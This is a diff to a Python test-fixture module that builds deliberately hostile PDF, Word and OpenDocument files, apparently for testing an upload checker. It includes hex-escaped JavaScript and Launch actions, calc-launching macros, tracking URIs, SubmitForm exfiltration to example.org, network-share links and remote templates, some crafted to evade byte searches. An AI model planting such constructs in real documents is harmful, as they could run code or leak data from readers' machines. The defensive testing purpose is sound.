@@ -250,6 +250,178 @@ def pdf_with_many_outline_items(count: int) -> bytes:
     return _uncompressed(writer)
 
 
+# --- Handmade PDFs: what no library writes (repeated keys, escaped names, orphan objects) ----
+
+PAGE = b"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 595 842]%s >>"
+
+
+def handmade_pdf(objects: dict[int, bytes], root: int = 1, packed: tuple[int, ...] = ()) -> bytes:
+    """A PDF from its objects' source, with a correct cross-reference table.
+
+    Object 1 is usually the catalogue, 2 the page tree, 3 the page (``PAGE``). The objects
+    numbered in ``packed`` go into one compressed object stream (PDF 1.5), and the
+    cross-reference is then a compressed stream too: nothing of them shows in the bytes."""
+    out = b"%PDF-1.7\n%\xe2\xe3\xcf\xd3\n"
+    offsets = {}
+    plain = {number: source for number, source in objects.items() if number not in packed}
+    size = max(objects) + 1
+    stream_number = size if packed else None
+    if packed:
+        header, body = [], b""
+        for number in packed:
+            header.append(b"%d %d" % (number, len(body)))
+            body += objects[number] + b"\n"
+        first = b" ".join(header) + b"\n"
+        data = zlib.compress(first + body)
+        plain[stream_number] = (
+            b"<< /Type /ObjStm /N %d /First %d /Filter /FlateDecode /Length %d >>\nstream\n%s\nendstream"
+            % (
+                len(packed),
+                len(first),
+                len(data),
+                data,
+            )
+        )
+        size += 2  # the object stream, the cross-reference stream
+    for number in sorted(plain):
+        offsets[number] = len(out)
+        out += b"%d 0 obj\n%s\nendobj\n" % (number, plain[number])
+    start = len(out)
+    if not packed:
+        out += b"xref\n0 %d\n0000000000 65535 f \n" % size
+        for number in range(1, size):
+            out += b"%010d 00000 n \n" % offsets[number] if number in offsets else b"0000000000 65535 f \n"
+        return out + b"trailer\n<< /Size %d /Root %d 0 R >>\nstartxref\n%d\n%%%%EOF\n" % (size, root, start)
+    rows = [b"\x00" + b"\x00" * 4 + b"\xff\xff"]
+    for number in range(1, size):
+        if number in offsets:
+            rows.append(b"\x01" + offsets[number].to_bytes(4, "big") + b"\x00\x00")
+        elif number in packed:
+            rows.append(b"\x02" + stream_number.to_bytes(4, "big") + packed.index(number).to_bytes(2, "big"))
+        elif number == size - 1:  # the cross-reference stream itself
+            rows.append(b"\x01" + start.to_bytes(4, "big") + b"\x00\x00")
+        else:
+            rows.append(b"\x00" * 5 + b"\xff\xff")
+    table = zlib.compress(b"".join(rows))
+    out += b"%d 0 obj\n<< /Type /XRef /Size %d /W [1 4 2] /Root %d 0 R /Filter /FlateDecode /Length %d >>\n" % (
+        size - 1,
+        size,
+        root,
+        len(table),
+    )
+    return out + b"stream\n%s\nendstream\nendobj\nstartxref\n%d\n%%%%EOF\n" % (table, start)
+
+
+def one_page_pdf(catalogue: bytes = b"", page: bytes = b"", packed: tuple[int, ...] = (), **extra: bytes) -> bytes:
+    """A one-page handmade PDF: ``catalogue`` and ``page`` are added to those dictionaries,
+    ``extra`` (``o4=b"<< … >>"``) are objects 4, 5… referenced from them."""
+    objects = {
+        1: b"<< /Type /Catalog /Pages 2 0 R%s >>" % catalogue,
+        2: b"<< /Type /Pages /Kids [3 0 R] /Count 1 >>",
+        3: PAGE % page,
+    }
+    objects.update({int(name[1:]): source for name, source in extra.items()})
+    return handmade_pdf(objects, packed=packed)
+
+
+ESCAPED_JAVASCRIPT = b"<< /S /J#61vaScript /J#53 (app.alert\\(document.cookie\\)) >>"
+ESCAPED_LAUNCH = b"<< /S /L#61unch /F (C:\\\\Windows\\\\System32\\\\calc.exe) >>"
+LINK = b" /Annots [<< /Type /Annot /Subtype /Link /Rect [50 50 200 70] /Border [0 0 0] %s >>]"
+
+
+def pdf_with_repeated_action_key(case: str) -> bytes:
+    """A dictionary that writes an action key twice, a harmless value first: pypdf keeps
+    the first, some readers act on the last. The hostile names are hex-escaped so that no
+    byte search sees them."""
+    if case == "open-action":  # the catalogue's /OpenAction: a GoTo, then a script
+        return one_page_pdf(
+            catalogue=b" /OpenAction 4 0 R /OpenAction 5 0 R",
+            o4=b"<< /S /GoTo /D [3 0 R /Fit] >>",
+            o5=ESCAPED_JAVASCRIPT,
+        )
+    if case == "action-type":  # a link's action: /S /URI, then /S /Launch
+        action = b"/A << /S /URI /URI (https://quartierscafes.org/) /S /L#61unch /F (calc.exe) >>"
+        return one_page_pdf(page=LINK % action)
+    if case == "annotation-action":  # a link's /A: a web address, then a launch action
+        return one_page_pdf(
+            page=LINK % b"/A << /S /URI /URI (https://quartierscafes.org/) >> /A 4 0 R", o4=ESCAPED_LAUNCH
+        )
+    if case == "page-additional-actions":  # a page's /AA: empty, then a script on opening
+        return one_page_pdf(page=b" /AA << >> /AA << /O 4 0 R >>", o4=ESCAPED_JAVASCRIPT)
+    if case == "in-an-object-stream":  # the catalogue and both actions compressed in an object stream
+        return one_page_pdf(
+            catalogue=b" /OpenAction 4 0 R /OpenAction 5 0 R",
+            o4=b"<< /S /GoTo /D [3 0 R /Fit] >>",
+            o5=rb"<< /S /JavaScript /JS (app.alert\(1\)) >>",
+            packed=(1, 4, 5),
+        )
+    raise ValueError(case)
+
+
+#: Actions that reach outside the document, each in the place a reader would act on it.
+OUTWARD_ACTIONS = {
+    "open-action-uri": dict(catalogue=b" /OpenAction << /S /URI /URI (https://example.org/suivi?lu=1) >>"),
+    "page-open-uri": dict(page=b" /AA << /O << /S /URI /URI (https://example.org/suivi) >> >>"),
+    "annotation-mouse-over-uri": dict(
+        page=LINK % b"/AA << /E << /S /URI /URI (https://example.org/suivi) >> >>",
+    ),
+    "chained-after-open-uri": dict(
+        catalogue=b" /OpenAction << /S /GoTo /D [3 0 R /Fit] /Next << /S /URI /URI (https://example.org/) >> >>"
+    ),
+    "link-gotor-network-share": dict(
+        page=LINK % b"/A << /S /GoToR /F (\\\\\\\\serveur\\\\partage\\\\piege.pdf) /D [0 /Fit] >>"
+    ),
+    "link-gotoe": dict(page=LINK % b"/A << /S /GoToE /F (autre.pdf) /D [0 /Fit] /T << /R /C /N (piece) >> >>"),
+    "link-submitform": dict(page=LINK % b"/A << /S /SubmitForm /F << /FS /URL /F (https://example.org/collecte) >> >>"),
+    "link-importdata": dict(page=LINK % b"/A << /S /ImportData /F (donnees.fdf) >>"),
+    "thread-in-another-file": dict(page=LINK % b"/A << /S /Thread /F (autre.pdf) /D 0 >>"),
+    "rich-media-annotation": dict(
+        page=b" /Annots [<< /Type /Annot /Subtype /RichMedia /Rect [0 0 100 100] /RichMediaContent << >> >>]"
+    ),
+    "structure-element-annotation": dict(
+        # An annotation no page lists, reached through the structure tree (an OBJR).
+        catalogue=b" /StructTreeRoot << /Type /StructTreeRoot"
+        b" /K << /S /Document /K [<< /Type /OBJR /Obj 4 0 R >>] >> >>",
+        o4=b"<< /Type /Annot /Subtype /Link /Rect [0 0 10 10] /A " + ESCAPED_LAUNCH + b" >>",
+    ),
+}
+
+
+def pdf_with_outward_action(case: str) -> bytes:
+    return one_page_pdf(**OUTWARD_ACTIONS[case])
+
+
+def pdf_with_clicked_links() -> bytes:
+    """What an exported Word document holds: a web link the reader clicks, a bookmark to a
+    web page, a link inside the document, a tagged structure."""
+    link = LINK % b"/A << /S /URI /URI (https://quartierscafes.org/candidater) >>"
+    return one_page_pdf(
+        catalogue=(
+            b" /Outlines << /Type /Outlines /First 4 0 R /Last 4 0 R /Count 1 >>"
+            b" /StructTreeRoot << /Type /StructTreeRoot /K << /S /Document /K [<< /S /P /K 0 /Pg 3 0 R >>] >> >>"
+        ),
+        page=link,
+        o4=b"<< /Title (Site du programme) /Parent 1 0 R /A << /S /URI /URI (https://quartierscafes.org/) >> >>",
+    )
+
+
+def pdf_with_many_bookmarks(count: int) -> bytes:
+    """``count`` bookmarks, written by hand (pypdf's writer takes minutes for 100 000): the
+    cheapest way to make a PDF checker parse many objects."""
+    first = 4
+    objects = {
+        1: b"<< /Type /Catalog /Pages 2 0 R /Outlines << /First %d 0 R /Last %d 0 R /Count %d >> >>"
+        % (first, first + count - 1, count),
+        2: b"<< /Type /Pages /Kids [3 0 R] /Count 1 >>",
+        3: PAGE % b"",
+    }
+    for index in range(count):
+        number = first + index
+        following = b" /Next %d 0 R" % (number + 1) if index < count - 1 else b""
+        objects[number] = b"<< /Title (Rep\\350re %d) /Dest [3 0 R /Fit]%s >>" % (index, following)
+    return handmade_pdf(objects)
+
+
 #: The EICAR test file: harmless, and detected by every antivirus as if it were a virus.
 EICAR = b"X5O!P%@AP[4\\PZX54(P^)7CC)7}$EICAR-STANDARD-ANTIVIRUS-TEST-FILE!$H+H*"
 
@@ -370,10 +542,11 @@ DOCUMENT = (
 )
 
 
-def docx_bytes(first: str = "[Content_Types].xml", macros: bool = False) -> bytes:
+def docx_bytes(first: str = "[Content_Types].xml", macros: bool = False, extra: dict | None = None) -> bytes:
     entries = {"[Content_Types].xml": CONTENT_TYPES, "_rels/.rels": RELS, "word/document.xml": DOCUMENT}
     if macros:
         entries["word/vbaProject.bin"] = "\x00" * 32
+    entries.update(extra or {})
     order = [first] + [name for name in entries if name != first]
     buffer = io.BytesIO()
     with zipfile.ZipFile(buffer, "w", zipfile.ZIP_DEFLATED) as archive:
@@ -382,7 +555,93 @@ def docx_bytes(first: str = "[Content_Types].xml", macros: bool = False) -> byte
     return buffer.getvalue()
 
 
-def odt_bytes(mimetype: str = "application/vnd.oasis.opendocument.text", compress_mimetype: bool = False) -> bytes:
+def relationships(*rows: str) -> str:
+    """A relationships part (``word/_rels/….rels``) holding ``rows``."""
+    return (
+        '<?xml version="1.0" encoding="UTF-8" standalone="yes"?>'
+        '<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships">'
+        + "".join(rows)
+        + "</Relationships>"
+    )
+
+
+OFFICE_RELATIONSHIP = "http://schemas.openxmlformats.org/officeDocument/2006/relationships/"
+SETTINGS = (
+    '<?xml version="1.0" encoding="UTF-8" standalone="yes"?>'
+    '<w:settings xmlns:w="http://schemas.openxmlformats.org/wordprocessingml/2006/main" '
+    'xmlns:r="http://schemas.openxmlformats.org/officeDocument/2006/relationships">'
+    '<w:attachedTemplate r:id="rId1"/></w:settings>'
+)
+#: An OLE compound file's first bytes (what Word stores for an embedded object).
+OLE_HEADER = b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + b"\x00" * 504
+
+#: Word documents that run something or reach outside when they are opened.
+HOSTILE_DOCX = {
+    "remote-template": {
+        "word/settings.xml": SETTINGS,
+        # « Exte&#114;nal »: Word decodes the character reference; a byte search would not.
+        "word/_rels/settings.xml.rels": relationships(
+            f'<Relationship Id="rId1" Type="{OFFICE_RELATIONSHIP}attachedTemplate" '
+            'Target="https://modeles.example.org/lettre.dotm" TargetMode="Exte&#114;nal"/>'
+        ),
+    },
+    "template-on-a-network-share": {
+        "word/settings.xml": SETTINGS,
+        "word/_rels/settings.xml.rels": relationships(
+            f'<Relationship Id="rId1" Type="{OFFICE_RELATIONSHIP}attachedTemplate" '
+            'Target="\\\\serveur\\partage\\modele.dotm"/>'
+        ),
+    },
+    "linked-image": {
+        "word/_rels/document.xml.rels": relationships(
+            f'<Relationship Id="rId5" Type="{OFFICE_RELATIONSHIP}image" '
+            'Target="https://suivi.example.org/pixel.png" TargetMode="External"/>'
+        ),
+    },
+    "ole-object": {
+        "word/embeddings/oleObject1.bin": OLE_HEADER,
+        "word/_rels/document.xml.rels": relationships(
+            f'<Relationship Id="rId6" Type="{OFFICE_RELATIONSHIP}oleObject" Target="embeddings/oleObject1.bin"/>'
+        ),
+    },
+    "activex-control": {"word/activeX/activeX1.xml": "<ax:ocx xmlns:ax='urn:x'/>", "word/activeX/activeX1.bin": b"x"},
+    "workbook-with-macros": {"word/embeddings/Classeur.xlsm": b"PK\x05\x06" + b"\x00" * 18},
+}
+
+
+def docx_with_web_link_and_chart() -> bytes:
+    """An ordinary report: a hyperlink to a web page (clicked) and a chart with its data."""
+    return docx_bytes(
+        extra={
+            "word/_rels/document.xml.rels": relationships(
+                f'<Relationship Id="rId7" Type="{OFFICE_RELATIONSHIP}hyperlink" '
+                'Target="https://quartierscafes.org/" TargetMode="External"/>',
+                f'<Relationship Id="rId8" Type="{OFFICE_RELATIONSHIP}chart" Target="charts/chart1.xml"/>',
+            ),
+            "word/charts/chart1.xml": "<c:chartSpace xmlns:c='urn:x'/>",
+            "word/embeddings/Microsoft_Excel_Worksheet.xlsx": b"PK\x05\x06" + b"\x00" * 18,
+        }
+    )
+
+
+MANIFEST_NS = "urn:oasis:names:tc:opendocument:xmlns:manifest:1.0"
+ODF_CONTENT = (
+    '<?xml version="1.0" encoding="UTF-8"?><office:document-content '
+    'xmlns:office="urn:oasis:names:tc:opendocument:xmlns:office:1.0" '
+    'xmlns:text="urn:oasis:names:tc:opendocument:xmlns:text:1.0" '
+    'xmlns:draw="urn:oasis:names:tc:opendocument:xmlns:drawing:1.0" '
+    'xmlns:script="urn:oasis:names:tc:opendocument:xmlns:script:1.0" '
+    'xmlns:xlink="http://www.w3.org/1999/xlink">%s</office:document-content>'
+)
+
+
+def odt_bytes(
+    mimetype: str = "application/vnd.oasis.opendocument.text",
+    compress_mimetype: bool = False,
+    manifest_entries: str = "",
+    body: str = "",
+    extra: dict | None = None,
+) -> bytes:
     buffer = io.BytesIO()
     with zipfile.ZipFile(buffer, "w") as archive:
         archive.writestr(
@@ -392,17 +651,74 @@ def odt_bytes(mimetype: str = "application/vnd.oasis.opendocument.text", compres
         )
         archive.writestr(
             "META-INF/manifest.xml",
-            '<?xml version="1.0" encoding="UTF-8"?><manifest:manifest '
-            'xmlns:manifest="urn:oasis:names:tc:opendocument:xmlns:manifest:1.0"/>',
+            f'<?xml version="1.0" encoding="UTF-8"?><manifest:manifest xmlns:manifest="{MANIFEST_NS}">'
+            '<manifest:file-entry manifest:full-path="/" '
+            'manifest:media-type="application/vnd.oasis.opendocument.text"/>'
+            '<manifest:file-entry manifest:full-path="content.xml" manifest:media-type="text/xml"/>'
+            f"{manifest_entries}</manifest:manifest>",
             compress_type=zipfile.ZIP_DEFLATED,
         )
-        archive.writestr(
-            "content.xml",
-            '<?xml version="1.0" encoding="UTF-8"?><office:document-content '
-            'xmlns:office="urn:oasis:names:tc:opendocument:xmlns:office:1.0"/>',
-            compress_type=zipfile.ZIP_DEFLATED,
-        )
+        archive.writestr("content.xml", ODF_CONTENT % body, compress_type=zipfile.ZIP_DEFLATED)
+        for name, data in (extra or {}).items():
+            archive.writestr(name, data, compress_type=zipfile.ZIP_DEFLATED)
     return buffer.getvalue()
+
+
+def _manifest_entry(path: str, media: str) -> str:
+    return f'<manifest:file-entry manifest:full-path="{path}" manifest:media-type="{media}"/>'
+
+
+#: OpenDocument texts that run something or reach outside when they are opened.
+HOSTILE_ODT = {
+    "basic-macros": dict(
+        manifest_entries=_manifest_entry("Basic/Standard/Module1.xml", "text/xml"),
+        extra={"Basic/Standard/Module1.xml": "<script:module/>", "Basic/script-lc.xml": "<library/>"},
+    ),
+    "python-script": dict(
+        manifest_entries=_manifest_entry("Scripts/python/ouverture.py", ""),
+        extra={"Scripts/python/ouverture.py": "import os\nos.system('calc')\n"},
+    ),
+    "script-in-the-manifest-only": dict(
+        manifest_entries=_manifest_entry("Configurations2/macro.xba", "application/vnd.sun.star.basic-script")
+    ),
+    "macro-on-open": dict(
+        body='<office:event-listeners><script:event-listener script:language="ooo:script" '
+        'script:event-name="dom:load" '
+        'xlink:href="vnd.sun.star.script:Standard.Module1.Main?language=Basic&amp;location=application"/>'
+        "</office:event-listeners>"
+    ),
+    "ole-object": dict(
+        manifest_entries=_manifest_entry("Object 1", "application/vnd.sun.star.oleobject"),
+        extra={"Object 1": OLE_HEADER},
+    ),
+    "ole-object-not-in-the-manifest": dict(extra={"Object 2": OLE_HEADER}),
+    "remote-template": dict(
+        extra={
+            "meta.xml": '<?xml version="1.0"?><office:document-meta '
+            'xmlns:office="urn:oasis:names:tc:opendocument:xmlns:office:1.0" '
+            'xmlns:meta="urn:oasis:names:tc:opendocument:xmlns:meta:1.0" '
+            'xmlns:xlink="http://www.w3.org/1999/xlink"><office:meta>'
+            '<meta:template xlink:type="simple" xlink:href="https://modeles.example.org/lettre.ott"/>'
+            "</office:meta></office:document-meta>"
+        }
+    ),
+    "linked-image": dict(
+        body='<office:body><office:text><text:p><draw:frame><draw:image xlink:type="simple" '
+        'xlink:href="https://suivi.example.org/pixel.png"/></draw:frame></text:p></office:text></office:body>'
+    ),
+}
+
+
+def odt_with_web_link_and_chart() -> bytes:
+    """An ordinary text: a hyperlink (clicked), an image and a chart inside the package."""
+    return odt_bytes(
+        body='<office:body><office:text><text:p><text:a xlink:type="simple" '
+        'xlink:href="https://quartierscafes.org/">le programme</text:a></text:p>'
+        '<text:p><draw:frame><draw:image xlink:href="Pictures/devanture.png"/></draw:frame>'
+        '<draw:frame><draw:object xlink:href="./Object 1"/></draw:frame></text:p></office:text></office:body>',
+        manifest_entries=_manifest_entry("Object 1/", "application/vnd.oasis.opendocument.chart"),
+        extra={"Object 1/content.xml": "<chart/>", "Pictures/devanture.png": b"\x89PNG"},
+    )
 
 
 def plain_zip() -> bytes:
